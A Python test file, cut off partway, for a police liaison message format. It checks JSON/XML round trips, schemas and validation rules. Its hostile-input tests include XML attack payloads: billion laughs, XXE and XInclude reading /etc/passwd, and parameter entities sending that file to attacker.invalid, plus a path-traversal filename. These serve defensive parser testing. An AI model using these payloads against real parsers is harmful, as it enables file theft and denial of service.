"""The structured message document: JSON and XML round trips, the published schemas, safe parsing
of hostile input, and the rules items, links and markings obey."""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from liaison.core.errors import ValidationFailed
from liaison.core.markings import configured_crime_areas
from liaison.entities.schema import SCHEMA, Property
from liaison.exchange.document import (
    JSON_SCHEMA_FILE,
    MAX_DEPTH,
    NAMESPACE,
    XSD_FILE,
    MessageDocument,
    from_data,
    json_schema,
    json_schema_text,
    parse_json,
    parse_xml,
    read,
    to_json,
    to_xml,
)

REGENERATE = (
    ".venv/bin/python -m liaison.exchange.document "
    "> src/liaison/exchange/schemas/message.schema.json"
)
SIGNATURE = base64.b64encode(bytes(range(64))).decode()


def item(
    ref: str, type_: str, evaluation: str = "B2", role: str | None = None, **props: Any
) -> dict[str, Any]:
    """One item in canonical order (ref, type, properties, evaluation, role)."""
    data: dict[str, Any] = {
        "ref": ref,
        "type": type_,
        "properties": props,
        "evaluation": evaluation,
    }
    if role:
        data["role"] = role
    return data


def link(source: str, target: str, type_: str, **extra: Any) -> dict[str, Any]:
    return {"source": source, "target": target, "type": type_, **extra}


def document(**changes: Any) -> dict[str, Any]:
    """A minimal valid document, changed as asked."""
    base: dict[str, Any] = {
        "format": "liaison-message/1",
        "sender": {"agency": "DE-BKA"},
        "recipients": [{"agency": "NL-NP", "kind": "to"}],
        "subject": "Registered keeper of NL plate 12-ABC-3",
        "body": "Please identify the registered keeper.",
        "message_type": "request",
        "priority": "normal",
        "legal_basis": "Directive (EU) 2023/977 Art. 4",
        "purpose": "Investigation DE-2026-0412",
        "markings": {"handling": "H0", "classification": "RESTRICTED"},
    }
    base.update(changes)
    return base


# Canonical (every value already normalised, keys in the model's order), so that JSON → model →
# JSON gives back the same bytes.
RICH: dict[str, Any] = {
    "format": "liaison-message/1",
    "id": "01J8Z4A1B2C3D4E5F6G7H8J9K0",
    "case": {"id": "01J8Z3K7Q4M6T9V2X5B1C0D8EF", "reference": "BKA-2026/0417", "title": "Кокаин"},
    "in_reply_to": "01J8Z3Y9W8V7T6S5R4Q3P2N1M0",
    "sender": {"agency": "DE-BKA", "user": "a.officer"},
    "recipients": [
        {"agency": "NL-NP", "kind": "to"},
        {"agency": "PL-KGP", "kind": "to"},
        {"agency": "EU-HUB", "kind": "cc"},
    ],
    "subject": "Cocaine shipments via Rotterdam — persons and vehicle",
    "body": "Dear colleagues,\r\n\r\nplease find the persons below.\n\tRegards <BKA> & co.",
    "message_type": "information",
    "priority": "urgent",
    "legal_basis": "Directive (EU) 2023/977 Art. 7",
    "purpose": "Investigation BKA-2026/0417\nsecond line",
    "crime_area": "drug_trafficking",
    "markings": {
        "handling": "H3",
        "h3_conditions": "Not to be shared with customs.\nDelete after 2026-12-31.",
        "classification": "RESTRICTED",
    },
    "sent_at": "2026-03-02T09:15:00Z",
    "deadline_at": "2026-03-09T10:15:00.250000+01:00",
    "items": [
        item(
            "p1",
            "Person",
            "B2",
            "suspect",
            given_name="Anna",
            family_name="Kowalska",
            dob="1984-03-07",
            gender="F",
            nationality="PL",
            document_number="ZS1234567",
            document_country="PL",
        ),
        item(
            "p2",
            "Person",
            "C3",
            "contact",
            given_name="Иван",
            middle_name="Сергеевич",
            family_name="Петров",
            name_original="Иван Сергеевич Петров",
            dob="1980",
            nationality="RU",
        ),
        item(
            "p3",
            "Person",
            "X4",
            full_name="Mohammed Al-Ahmad",
            name_original="محمد الأحمد",
            dob="1990-11",
            birth_place="Aleppo",
        ),
        item(
            "v1",
            "Vehicle",
            "A1",
            plate="B-AB 1234",
            plate_country="DE",
            make="Audi",
            colour="black",
        ),
        item("t1", "Phone", "B2", number="+48 601 234 567", country="PL"),
        item(
            "l1",
            "Location",
            "A2",
            city="Rotterdam",
            country="NL",
            latitude="51.9225",
            longitude="4.47917",
        ),
        item(
            "e1",
            "Event",
            "B3",
            crime_area="drug_trafficking",
            date="2026-02-14",
            place="Port of Rotterdam",
            country="NL",
            description="Container with 200 kg of cocaine",
        ),
    ],
    "links": [
        link("p1", "p2", "associate"),
        link("p2", "t1", "holds", start="2025-06-01"),
        link("p1", "v1", "owns_uses", start="2025-01-01", end="2026-02-28"),
        link("p1", "e1", "involved_in", role="suspect"),
        link("v1", "e1", "involved_in"),
        link("p3", "p2", "family"),
        link("p2", "l1", "owns_uses"),
    ],
    "attachments": [
        {
            "filename": "photo_kowalska.jpg",
            "content_type": "image/jpeg",
            "size": 48213,
            "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        },
        {
            "filename": "протокол допроса.pdf",
            "content_type": "application/pdf",
            "size": 0,
            "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        },
    ],
    "signature": {
        "agency": "DE-BKA",
        "key_id": "01J8Z0KEY0000000000000000A",
        "algorithm": "Ed25519",
        "value": SIGNATURE,
    },
}
RICH_JSON = json.dumps(RICH, ensure_ascii=False, indent=2).encode("utf-8")


def refused(call: Any, *args: Any) -> ValidationFailed:
    with pytest.raises(ValidationFailed) as caught:
        call(*args)
    return caught.value


def errors_of(data: dict[str, Any]) -> dict[str, str]:
    exc = refused(from_data, data)
    errors: dict[str, str] = exc.extra["errors"]
    return errors


# ----- round trips ---------------------------------------------------------------------------


def test_json_to_model_to_json_gives_back_the_same_bytes() -> None:
    assert to_json(parse_json(RICH_JSON)) == RICH_JSON


def test_model_to_xml_to_model_is_equal_and_json_survives_xml() -> None:
    doc = parse_json(RICH_JSON)
    xml = to_xml(doc)
    assert parse_xml(xml) == doc
    assert to_json(parse_xml(xml)) == RICH_JSON


def test_xml_carries_carriage_returns_scripts_and_markup_characters() -> None:
    xml = to_xml(parse_json(RICH_JSON))
    assert xml.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert b"&#13;" in xml
    assert b"&lt;BKA&gt; &amp; co." in xml
    assert "محمد الأحمد".encode() in xml
    assert parse_xml(xml).body == RICH["body"]


def test_values_are_normalised_on_import() -> None:
    person = item(
        "p1",
        "Person",
        " b2 ",
        given_name="  Jan   de ",
        family_name="Vries",
        dob="07.03.1984",
        nationality="NLD",
    )
    location = item("l1", "Location", "A1", city="Riga", latitude=56.95, longitude=24)
    doc = from_data(document(items=[person, location]))
    assert doc.items[0].evaluation == "B2"
    assert doc.items[0].properties == {
        "given_name": "Jan de",
        "family_name": "Vries",
        "dob": "1984-03-07",
        "nationality": "NL",
    }
    assert doc.items[1].properties == {"city": "Riga", "latitude": "56.95", "longitude": "24"}


def test_a_property_takes_one_value() -> None:
    doc = from_data(document(items=[item("p1", "Person", family_name=["Kowalska"])]))
    assert doc.items[0].properties == {"family_name": "Kowalska"}
    errors = errors_of(document(items=[item("p1", "Person", phone=["+48 601", "+48 602"])]))
    assert (
        "a second phone, document or address is a second item"
        in errors["/items/0/properties/phone"]
    )
    errors = errors_of(document(items=[item("l1", "Location", city="Riga", latitude=10**400)]))
    assert "finite number" in errors["/items/0/properties/latitude"]
    errors = errors_of(document(items=[item("l1", "Location", city="Riga", latitude=10**5000)]))
    assert "/items/0/properties/latitude" in errors


def test_invalid_identifiers_are_kept_and_reported_as_warnings() -> None:
    account = item("b1", "BankAccount", "B2", iban="DE89 3704 0044 0532 0130 01")
    doc = from_data(document(items=[account]))
    assert doc.items[0].properties["iban"] == "DE89 3704 0044 0532 0130 01"
    assert len(doc.warnings) == 1
    assert doc.warnings[0].startswith("/items/0 (b1): IBAN")


def test_the_judicial_use_warning_follows_the_handling_code_whatever_the_input_says() -> None:
    h1 = from_data(document(markings={"handling": "H1", "classification": "RESTRICTED"}))
    assert h1.judicial_use_warning is not None
    assert "judicial proceedings" in h1.judicial_use_warning
    assert b"judicial_use_warning" in to_json(h1)
    assert b"<judicial_use_warning>" in to_xml(h1)
    h2 = from_data(
        document(
            judicial_use_warning="anything", markings={"handling": "H2", "classification": "SECRET"}
        )
    )
    assert h2.judicial_use_warning is None
    assert h2.markings.classification_level.name == "SECRET"


def test_comments_and_cdata_in_xml_are_read_as_text() -> None:
    xml = to_xml(from_data(document(subject="Request"))).replace(
        b"<subject>Request</subject>", b"<subject>Re<!-- a comment -->qu<![CDATA[est]]></subject>"
    )
    assert parse_xml(xml).subject == "Request"


def test_read_picks_the_format_by_content_type_or_first_byte() -> None:
    doc = parse_json(RICH_JSON)
    xml = to_xml(doc)
    assert read(xml, "application/xml; charset=utf-8") == doc
    assert read(RICH_JSON, "application/json") == doc
    assert read(xml) == doc
    assert read(RICH_JSON) == doc


# ----- generated documents -------------------------------------------------------------------

_NOT_XML = "".join(chr(c) for c in range(32) if c not in (9, 10, 13)) + "\ufffe\uffff"
_SCRIPTS = [
    "Anna",
    "Kowalska",
    "Иван",
    "Петров",
    "محمد",
    "الأحمد",
    "Γιώργος",
    "Nguyễn",
    "李",
    "O'Brien",
]
_chars = st.characters(codec="utf-8", exclude_characters=_NOT_XML)
_line_chars = st.characters(codec="utf-8", exclude_characters=_NOT_XML + "\t\n\r")
lines = st.text(_line_chars, min_size=1, max_size=30).filter(lambda s: s.strip())
texts = st.text(_chars, max_size=200)
refs = st.from_regex(r"[a-z][a-z0-9]{0,5}", fullmatch=True)
agencies = st.from_regex(r"[A-Z]{2}-[A-Z]{2,6}", fullmatch=True)
timezones = st.sampled_from(
    [dt.UTC, dt.timezone(dt.timedelta(hours=2)), dt.timezone(dt.timedelta(hours=-5, minutes=-30))]
)
moments = st.datetimes(
    min_value=dt.datetime(2000, 1, 1), max_value=dt.datetime(2099, 1, 1), timezones=timezones
)
_IDENTIFIERS = {
    "phone": st.from_regex(r"\+4[89] [1-9][0-9]{2} [0-9]{3} [0-9]{3}", fullmatch=True),
    "email": st.from_regex(r"[a-z]{1,8}@[a-z]{1,8}\.(org|de|nl)", fullmatch=True),
}


def _value(prop: Property) -> st.SearchStrategy[Any]:
    """Values the entities schema accepts for a property."""
    if prop.type in {"text", "name"}:
        return st.one_of(st.sampled_from(_SCRIPTS), lines)
    if prop.type == "date":
        last = dt.date.today().year if prop.past else 2100
        dates = st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(last, 12, 31))
        return st.one_of(dates.map(dt.date.isoformat), dates.map(lambda d: f"{d.year}"))
    if prop.type == "country":
        return st.sampled_from(["DE", "NL", "PL", "RU", "SY", "FR", "Germany", "POL"])
    if prop.type == "enum":
        return st.sampled_from(prop.values)
    if prop.type == "number":
        low = prop.min if prop.min is not None else -1e6
        high = prop.max if prop.max is not None else 1e6
        return st.floats(min_value=low, max_value=high, allow_nan=False)
    if prop.type == "crime_area":
        return st.sampled_from(sorted(configured_crime_areas()))
    assert prop.kind is not None
    return _IDENTIFIERS.get(prop.kind, st.from_regex(r"[A-Z]{2}[0-9]{3,12}", fullmatch=True))


@st.composite
def items_of(draw: st.DrawFn, ref: str) -> dict[str, Any]:
    etype = SCHEMA.types[draw(st.sampled_from(sorted(SCHEMA.types)))]
    needed = {p.name for p in etype.properties.values() if p.required}
    needed |= {draw(st.sampled_from(group)) for group in etype.one_of}
    optional = draw(st.sets(st.sampled_from(sorted(etype.properties)), max_size=4))
    props = {name: draw(_value(etype.properties[name])) for name in sorted(needed | optional)}
    evaluation = draw(st.sampled_from(["A1", "B2", "C3", "X4", "a2", "x1"]))
    role = draw(st.none() | st.sampled_from(["suspect", "victim", "Zeuge", "свидетель"]))
    return item(ref, etype.name, evaluation, role, **props)


@st.composite
def links_between(draw: st.DrawFn, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = []
    for _ in range(draw(st.integers(0, 4)) if items else 0):
        source, target = draw(st.sampled_from(items)), draw(st.sampled_from(items))
        fitting = [
            lt
            for lt in SCHEMA.links.values()
            if source["type"] in lt.source and target["type"] in lt.target
        ]
        if not fitting:
            continue
        ltype = draw(st.sampled_from(fitting))
        extra: dict[str, Any] = {}
        if ltype.roles and draw(st.booleans()):
            extra["role"] = draw(st.sampled_from(["suspect", "victim", "witness", "contact"]))
        start = draw(
            st.none() | st.dates(min_value=dt.date(1990, 1, 1), max_value=dt.date(2030, 1, 1))
        )
        if start:
            extra["start"] = start.isoformat()
            if draw(st.booleans()):
                extra["end"] = (start + dt.timedelta(days=draw(st.integers(0, 900)))).isoformat()
        result.append(link(source["ref"], target["ref"], ltype.name, **extra))
    return result


@st.composite
def documents(draw: st.DrawFn) -> dict[str, Any]:
    """Valid documents: every field exercised, values drawn from wide alphabets."""
    item_refs = draw(st.lists(refs, max_size=5, unique=True))
    items = [draw(items_of(ref)) for ref in item_refs]
    handling = draw(st.sampled_from(["H0", "H1", "H2", "H3"]))
    markings = {
        "handling": handling,
        "classification": draw(
            st.sampled_from(["UNCLASSIFIED", "RESTRICTED", "CONFIDENTIAL", "SECRET", "TOP_SECRET"])
        ),
    }
    if handling == "H3":
        markings["h3_conditions"] = draw(texts.filter(lambda s: s.strip()))
    recipient_codes = draw(st.lists(agencies, min_size=1, max_size=4, unique=True))
    recipients = [{"agency": recipient_codes[0], "kind": "to"}] + [
        {"agency": code, "kind": draw(st.sampled_from(["to", "cc"]))}
        for code in recipient_codes[1:]
    ]
    sent = draw(st.none() | moments)
    data = document(
        sender={"agency": draw(agencies), "user": draw(st.none() | lines)},
        recipients=recipients,
        subject=draw(lines),
        body=draw(texts),
        message_type=draw(
            st.sampled_from(["request", "reply", "information", "hit_follow_up", "consent_request"])
        ),
        priority=draw(st.sampled_from(["urgent", "normal"])),
        accessibility=draw(st.none() | st.sampled_from(["direct", "indirect"])),
        legal_basis=draw(lines),
        purpose=draw(texts.filter(lambda s: s.strip()).map(lambda s: s[:500])),
        crime_area=draw(st.none() | st.sampled_from(sorted(configured_crime_areas()))),
        markings=markings,
        items=items,
        links=draw(links_between(items)),
        attachments=draw(
            st.lists(
                st.fixed_dictionaries(
                    {
                        "filename": lines.filter(
                            lambda s: "/" not in s and "\\" not in s and s.strip(".")
                        ),
                        "content_type": st.sampled_from(
                            ["image/jpeg", "application/pdf", "text/plain"]
                        ),
                        "size": st.integers(0, 2**53 - 1),
                        "sha256": st.from_regex(r"[0-9a-f]{64}", fullmatch=True),
                    }
                ),
                max_size=3,
            )
        ),
    )
    if draw(st.booleans()):
        data["case"] = {"reference": draw(lines), "title": draw(lines)}
    if sent is not None:
        data["sent_at"] = sent.isoformat()
        if draw(st.booleans()):
            data["deadline_at"] = (sent + dt.timedelta(hours=draw(st.integers(0, 400)))).isoformat()
    if draw(st.booleans()):
        raw = draw(st.binary(min_size=64, max_size=64))
        data["signature"] = {
            "agency": data["sender"]["agency"],
            "key_id": "k1",
            "algorithm": "Ed25519",
            "value": base64.b64encode(raw).decode(),
        }
    return data


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(documents())
def test_generated_documents_survive_every_round_trip(data: dict[str, Any]) -> None:
    doc = from_data(data)
    as_json = to_json(doc)
    assert parse_json(as_json) == doc
    assert to_json(parse_json(as_json)) == as_json
    as_xml = to_xml(doc)
    assert parse_xml(as_xml) == doc
    assert to_json(parse_xml(as_xml)) == as_json
    _xsd().assertValid(etree.fromstring(as_xml))


# ----- published schemas ---------------------------------------------------------------------


def _xsd() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(XSD_FILE)))


def test_the_committed_json_schema_is_the_generated_one() -> None:
    committed = JSON_SCHEMA_FILE.read_text(encoding="utf-8")
    assert json.loads(committed) == json_schema(), f"regenerate it: {REGENERATE}"
    assert committed == json_schema_text(), f"regenerate it: {REGENERATE}"


def test_the_json_schema_describes_the_document() -> None:
    schema = json_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["additionalProperties"] is False
    assert set(schema["required"]) >= {"format", "sender", "recipients", "markings", "subject"}
    item_schema = schema["$defs"]["Item"]
    assert item_schema["properties"]["type"]["enum"] == list(SCHEMA.types)
    assert "examples" in item_schema["properties"]["evaluation"]
    assert all(
        "description" in field
        for model in schema["$defs"].values()
        for field in model.get("properties", {}).values()
        if "$ref" not in field
    )


def test_xml_output_validates_against_the_xsd() -> None:
    xml = to_xml(parse_json(RICH_JSON))
    root = etree.fromstring(xml)
    assert root.tag == f"{{{NAMESPACE}}}message"
    _xsd().assertValid(root)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda x: x.replace(b"<priority>urgent</priority>", b""), "priority"),
        (  # subject after body
            lambda x: re.sub(
                rb"(<subject>.*?</subject>)(\s*)(<body>.*?</body>)", rb"\3\2\1", x, flags=re.S
            ),
            "not expected",
        ),
        (lambda x: x.replace(b'evaluation="B2"', b'evaluation="b2"', 1), "evaluation"),
        (lambda x: x.replace(b'ref="p3"', b'ref="p1"'), "Duplicate key-sequence"),
        (lambda x: x.replace(b'target="e1"', b'target="zz"', 1), "No match found for key-sequence"),
        (
            lambda x: x.replace(
                b'<property name="dob">1980</property>', b'<property name="Dob">1980</property>'
            ),
            "name",
        ),
        (lambda x: x.replace(b'size="0"', b'size="-1"'), "size"),
        (lambda x: x.replace(b"2026-03-02T09:15:00Z", b"2026-03-02T09:15:00"), "sent_at"),
        (
            lambda x: x.replace(b'format="liaison-message/1"', b'format="liaison-message/2"'),
            "format",
        ),
        (lambda x: x.replace(b"<subject>", b"<unknown/><subject>"), "unknown"),
        (lambda x: x.replace(b"<body>", b'<body xml:lang="de">'), "lang"),
    ],
)
def test_what_the_xsd_refuses_parse_xml_refuses(change: Any, message: str) -> None:
    xml = change(to_xml(parse_json(RICH_JSON)))
    assert not _xsd().validate(etree.fromstring(xml))
    exc = refused(parse_xml, xml)
    assert message in exc.detail
    assert re.search(r"line \d+", exc.detail)


# ----- hostile input -------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<message xmlns="urn:liaison:message:1"><subject>&lol9;</subject></message>
"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><message xmlns="urn:liaison:message:1">'
    + b"&a;" * 50_000
    + b"</message>"
)
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<message xmlns="urn:liaison:message:1" format="liaison-message/1"><subject>&xxe;</subject></message>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE message SYSTEM "http://attacker.invalid/message.dtd">
<message xmlns="urn:liaison:message:1" format="liaison-message/1"/>
"""
PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE message [
 <!ENTITY % file SYSTEM "file:///etc/passwd">
 <!ENTITY % wrap "<!ENTITY send SYSTEM 'http://attacker.invalid/?%file;'>">
 %wrap;
]>
<message xmlns="urn:liaison:message:1">&send;</message>
"""
XINCLUDE = b"""<?xml version="1.0"?>
<message xmlns="urn:liaison:message:1" xmlns:xi="http://www.w3.org/2001/XInclude"
         format="liaison-message/1"><xi:include href="file:///etc/passwd" parse="text"/></message>
"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, "XML document type declarations are not accepted"),
        (QUADRATIC_BLOWUP, "XML document type declarations are not accepted"),
        (EXTERNAL_ENTITY, "XML document type declarations are not accepted"),
        (EXTERNAL_DTD, "XML document type declarations are not accepted"),
        (PARAMETER_ENTITIES, "XML document type declarations are not accepted"),
        (XINCLUDE, "XInclude}include': This element is not expected"),
        (
            b'<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?><message/>',
            "line 2: XML processing instructions",
        ),
        (
            b"<message>" + b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1) + b"</message>",
            "nested deeper than 64",
        ),
        (b"<message>" + b"<a/>" * 200_000 + b"</message>", "more than 100,000 elements"),
        (b"<message>&undefined;</message>", "line 1: undefined entity"),
        (b"<message>\xff\xfe</message>", "not UTF-8"),
        ("<message/>".encode("utf-16"), "not UTF-8"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><message/>', "XML must be UTF-8"),
        (
            b'<message xmlns="urn:liaison:message:2" format="liaison-message/1"/>',
            "in namespace urn:liaison:message:1",
        ),
        (b'<message format="liaison-message/1"/>', "in namespace urn:liaison:message:1"),
        (b'<message xmlns="urn:liaison:message:1"><subject>x</message>', "line 1: mismatched tag"),
        (b"<a:message/>", "Namespace prefix a on message is not defined"),
        (b"", "no element found"),
        (b"plain text", "syntax error"),
    ],
)
def test_hostile_xml_is_refused_with_a_clear_error(data: bytes, message: str) -> None:
    assert message in refused(parse_xml, data).detail


def test_oversize_input_is_refused_before_parsing() -> None:
    xml = to_xml(parse_json(RICH_JSON))
    with pytest.raises(ValidationFailed, match="larger than 1,000 bytes"):
        parse_xml(xml, max_bytes=1000)
    with pytest.raises(ValidationFailed, match="larger than 1,000 bytes"):
        parse_json(RICH_JSON, max_bytes=1000)
    with pytest.raises(ValidationFailed, match="larger than 100 bytes"):
        parse_json("é" * 60, max_bytes=100)  # 60 characters, 120 bytes


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ('{"subject": "a", "subject": "b"}', "duplicate key 'subject'"),
        ('{"a": {"x": 1, "x": 2}}', "duplicate key 'x'"),
        ('{"size": NaN}', "NaN is not a JSON number"),
        ('{"size": Infinity}', "Infinity is not a JSON number"),
        ('{"size": -Infinity}', "-Infinity is not a JSON number"),
        ('{"size": ' + "9" * 5000 + "}", "too many digits"),
        ('{"size": 1e400}', "out of range"),
        ("[" * 100_000, "nested deeper than 64"),
        ('{"a":' * (MAX_DEPTH + 1) + "1" + "}" * (MAX_DEPTH + 1), "nested deeper than 64"),
        (b'{"subject": "\xff"}', "not UTF-8"),
        (b'{"subject": "\xed\xa0\x80"}', "not UTF-8"),  # an encoded surrogate
        ("[]", "a message document is a JSON object"),
        ('"text"', "a message document is a JSON object"),
        ('{"subject": ', "line 1 column 13"),
        ("", "Expecting value"),
        ('{"subject": "\\ud800"}', "U+D800"),
    ],
)
def test_hostile_json_is_refused_with_a_clear_error(data: str | bytes, message: str) -> None:
    assert message in refused(parse_json, data).detail


def test_nesting_inside_strings_does_not_count() -> None:
    doc = parse_json(json.dumps(document(body="[" * 1000 + "{" * 1000)))
    assert doc.body.startswith("[[[")


def test_a_byte_order_mark_is_accepted() -> None:
    assert parse_json(b"\xef\xbb\xbf" + RICH_JSON) == parse_json(RICH_JSON)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_only_ever_raise_validation_failed(data: bytes) -> None:
    for parse in (parse_xml, parse_json):
        with pytest.raises(ValidationFailed):
            parse(data)


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_damaged_documents_only_ever_raise_validation_failed(data: st.DataObject) -> None:
    for original, parse in ((to_xml(parse_json(RICH_JSON)), parse_xml), (RICH_JSON, parse_json)):
        at = data.draw(st.integers(0, len(original) - 1))
        cut = data.draw(st.integers(0, 40))
        junk = data.draw(st.binary(max_size=8))
        damaged = original[:at] + junk + original[at + cut :]
        with contextlib.suppress(ValidationFailed):
            parse(damaged)


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(sorted(RICH)), json_values, max_size=8))
def test_wrong_shapes_only_ever_raise_validation_failed(changes: dict[str, Any]) -> None:
    with contextlib.suppress(ValidationFailed):
        parse_json(json.dumps({**RICH, **changes}))


# ----- rules ---------------------------------------------------------------------------------


def test_every_item_problem_is_reported_at_once_with_its_path() -> None:
    errors = errors_of(
        document(
            items=[
                item("p1", "Spaceship", "B2", name="x"),
                item("p2", "Person", "B2", family_name="X", shoe_size="44"),
                item("p3", "Person", "B2", family_name="X", dob="31.02.1980"),
                item("p4", "Person", "Z9", family_name="X"),
                {"ref": "p5", "type": "Person", "properties": {"family_name": "X"}},
                item("p6", "Person", "B2", gender="Q"),
            ]
        )
    )
    assert "unknown entity type 'Spaceship'" in errors["/items/0/type"]
    assert errors["/items/1/properties/shoe_size"] == "Person has no property 'shoe_size'"
    assert "'31.02.1980' is not a date" in errors["/items/2/properties/dob"]
    assert "source must be A, B, C or X" in errors["/items/3/evaluation"]
    assert errors["/items/4/evaluation"] == "Field required"
    assert "must be one of M, F, X, U" in errors["/items/5/properties/gender"]
    assert "give at least one of" in errors["/items/5/properties/full_name"]


def test_item_refs_are_unique() -> None:
    person = item("p1", "Person", family_name="X")
    errors = errors_of(document(items=[person, person]))
    assert errors == {"/items/1/ref": "ref 'p1' is used by an earlier item"}


@pytest.mark.parametrize(
    ("links", "path", "message"),
    [
        ([link("p1", "zz", "associate")], "/links/0/target", "no item has ref 'zz'"),
        ([link("yy", "p1", "associate")], "/links/0/source", "no item has ref 'yy'"),
        ([link("p1", "v1", "family")], "/links/0/type", "cannot end at a Vehicle"),
        ([link("v1", "p1", "holds")], "/links/0/type", "cannot start at a Vehicle"),
        ([link("p1", "v1", "teleported")], "/links/0/type", "unknown link type 'teleported'"),
        ([link("p1", "p2", "family", role="suspect")], "/links/0/role", "takes no role"),
        ([link("p1", "e1", "involved_in", role="boss")], "/links/0/role", "role must be one of"),
        (
            [link("p1", "v1", "owns_uses", start="2026-01-02", end="2026-01-01")],
            "/links/0/end",
            "ends before it starts",
        ),
        ([link("p1", "v1", "owns_uses", start="2026-13-01")], "/links/0/start", "date"),
    ],
)
def test_links_join_existing_items_of_fitting_types(
    links: list[dict[str, Any]], path: str, message: str
) -> None:
    items = [
        item("p1", "Person", family_name="Kowalska"),
        item("p2", "Person", family_name="Petrov"),
        item("v1", "Vehicle", plate="B-AB 1234"),
        item("e1", "Event", crime_area="drug_trafficking", date="2026-02-14"),
    ]
    errors = errors_of(document(items=items, links=links))
    assert message in errors[path]


@pytest.mark.parametrize(
    ("markings", "message"),
    [
        ({"handling": "H3", "classification": "RESTRICTED"}, "H3 needs its conditions written out"),
        (
            {"handling": "H3", "h3_conditions": "  ", "classification": "RESTRICTED"},
            "H3 needs its conditions",
        ),
        (
            {"handling": "H2", "h3_conditions": "x", "classification": "RESTRICTED"},
            "only given with handling code H3",
        ),
    ],
)
def test_h3_conditions_are_given_with_h3_and_only_with_h3(
    markings: dict[str, Any], message: str
) -> None:
    errors = errors_of(document(markings=markings))
    assert message in errors["/markings/h3_conditions"]


@pytest.mark.parametrize(
    ("changes", "path", "message"),
    [
        (
            {"recipients": [{"agency": "NL-NP", "kind": "cc"}]},
            "/recipients",
            "at least one 'to' recipient",
        ),
        ({"recipients": []}, "/recipients", "at least 1 item"),
        (
            {"recipients": [{"agency": "NL-NP", "kind": "to"}, {"agency": "NL-NP", "kind": "cc"}]},
            "/recipients/1/agency",
            "listed twice",
        ),
        ({"recipients": [{"agency": "nl np", "kind": "to"}]}, "/recipients/0/agency", "pattern"),
        (
            {"markings": {"handling": "H5", "classification": "RESTRICTED"}},
            "/markings/handling",
            "H0",
        ),
        (
            {"markings": {"handling": "H0", "classification": "restricted"}},
            "/markings/classification",
            "RESTRICTED",
        ),
        ({"crime_area": "parking"}, "/crime_area", "not a configured crime area"),
        ({"subject": "   "}, "/subject", "must not be blank"),
        ({"subject": "a\nb"}, "/subject", "one line"),
        ({"subject": "x" * 301}, "/subject", "at most 300"),
        ({"body": "bell \x07"}, "/body", "U+0007"),
        ({"body": "x" * 1_000_001}, "/body", "at most 1000000"),
        ({"format": "liaison-message/2"}, "/format", "liaison-message/1"),
        ({"sent_at": "2026-03-02T09:15:00"}, "/sent_at", "timezone"),
        (
            {"sent_at": "2026-03-02T09:15:00Z", "deadline_at": "2026-03-01T09:15:00Z"},
            "/deadline_at",
            "before the message was sent",
        ),
        ({"case": {}}, "/case", "a case needs an id, a reference or a title"),
        ({"colour": "red"}, "/colour", "Extra inputs are not permitted"),
        (
            {"items": [item(f"p{i}", "Person", family_name="X") for i in range(1001)]},
            "/items",
            "at most 1,000 items",
        ),
        ({"links": [link("a", "b", "family")] * 5001}, "/links", "at most 5,000 links"),
        ({"attachments": [{}] * 101}, "/attachments", "at most 100 attachments"),
    ],
)
def test_message_fields_are_checked(changes: dict[str, Any], path: str, message: str) -> None:
    errors = errors_of(document(**changes))
    assert message in errors[path]


@pytest.mark.parametrize(
    ("attachment", "path", "message"),
    [
        ({"filename": "../etc/passwd"}, "filename", "no directory part"),
        ({"filename": ".."}, "filename", "no directory part"),
        ({"content_type": "image/JPEG"}, "content_type", "pattern"),
